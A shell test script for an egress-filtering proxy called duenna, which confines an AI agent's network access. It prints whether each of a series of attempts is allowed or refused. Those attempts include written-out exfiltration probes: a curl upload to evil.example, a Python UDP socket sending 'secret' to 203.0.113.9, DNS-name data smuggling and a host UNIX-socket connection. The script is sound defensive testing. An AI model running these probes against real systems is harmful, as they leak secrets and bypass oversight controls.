#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# The agent.  It knows nothing of duenna: no proxy, no certificate, no token.
api=https://api.example/acme

# try WHAT COMMAND...: one line of what came of it
try() {
	what=$1
	shift
	if out=$("$@" 2>&1); then verdict=allowed; else verdict=refused; fi
	case $out in *[Rr]efused* | *duenna* | *'No such file'*) verdict=refused ;; esac
	line=$(printf '%s\n' "$out" | head -n 1 | sed 's/^duenna refused [^ ]* [^ ]*: //')
	printf '  %-8s  %-32s  %.54s\n' "$verdict" "$what" "$line"
}

get() { curl -sS -m 10 "$@"; }

clone() {
	git clone -q https://git.example/acme/app.git &&
		echo "$(git -C app log --format=%s): $(git -C app ls-files | paste -sd ' ')"
}

last_line() { "$@" 2>&1 | tail -n 1; }

udp() {
	last_line python3 -c 'import socket; s = socket.socket(2, 2); s.settimeout(3)
s.connect(("203.0.113.9", 9999)); s.send(b"secret"); print(s.recv(99))'
}

unix() {
	last_line python3 -c 'import socket, sys
s = socket.socket(1); s.connect(sys.argv[1]); print("connected")' "$1"
}

# any name has an address, so that a refusal can be explained there; it is made
# up, and the question goes nowhere
name() {
	getent ahostsv4 "$1" | head -n 1 |
		sed 's/^\(198\.1[89][.0-9]*\) .*/refused: \1 is made up, nobody was asked/'
}

try 'GET api.example/acme/issues/7'   get "$api/issues/7"
try 'git clone git.example/acme/app'  clone
try 'another path, /acme/keys'        get "$api/keys"
try 'another host, evil.example'      get -4 https://evil.example/upload
try 'an IP literal, 203.0.113.9'      get -k https://203.0.113.9/
try 'UDP to 203.0.113.9'              udp
try 'data in a DNS name'              name c2VjcmV0.evil.example
try 'a UNIX socket of the host'       unix "$HOST_SOCKET"
printf '  %s\n' "All the agent has for a token: $ACME_TOKEN"
